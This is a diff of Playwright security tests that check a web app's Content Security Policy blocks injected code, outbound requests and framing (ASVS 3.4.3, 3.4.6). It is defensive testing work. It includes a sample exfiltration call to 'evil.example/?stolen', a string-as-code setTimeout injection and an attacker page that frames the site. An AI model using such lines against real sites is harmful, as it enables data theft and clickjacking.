@@ -26,7 +26,8 @@ test('a remote whose entry was changed on its way is not run, and the rest of th
   await expect(page.getByRole('heading', { level: 1, name: 'Terms of Use' })).toBeVisible();
 });
 
-test('code that gets into a page is not run, and reaches no other site (ASVS 3.4.3)', async ({ page }) => {
+test('code that gets into a page is not run, and reaches no other site (ASVS 3.4.3)', async ({ anotherBrowser }) => {
+  const page = await anotherBrowser();
   await watchViolations(page);
   await page.goto('/');
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
@@ -49,15 +50,14 @@ test('code that gets into a page is not run, and reaches no other site (ASVS 3.4
   await expect(page).toHaveTitle(/^Flight Amigo/);
   await page.evaluate(() => fetch('https://evil.example/?stolen').catch(() => undefined));
   await expect.poll(() => violations(page)).toContain('connect-src');
-  await expect(page.evaluate(() => globalThis.eval('1'))).rejects.toThrow('EvalError');
+  await page.evaluate(() => void Reflect.apply(setTimeout, globalThis, ['document.title = "text as code"']));
+  await expect.poll(() => violations(page)).toContain('script-src');
+  await expect(page).toHaveTitle(/^Flight Amigo/);
 });
 
 test('no other site shows a page in a frame (ASVS 3.4.6)', async ({ page, baseURL }) => {
-  const refusal = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
-  await page.route('http://evil.example/', (route) =>
-    route.fulfill({ contentType: 'text/html', body: `<iframe title="site" src="${baseURL}/profile"></iframe>` }),
-  );
+  const framing = `<iframe title="site" src="${baseURL}/profile"></iframe>`;
+  await page.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: framing }));
   await page.goto('http://evil.example/');
-  await refusal;
-  await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
+  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
 });
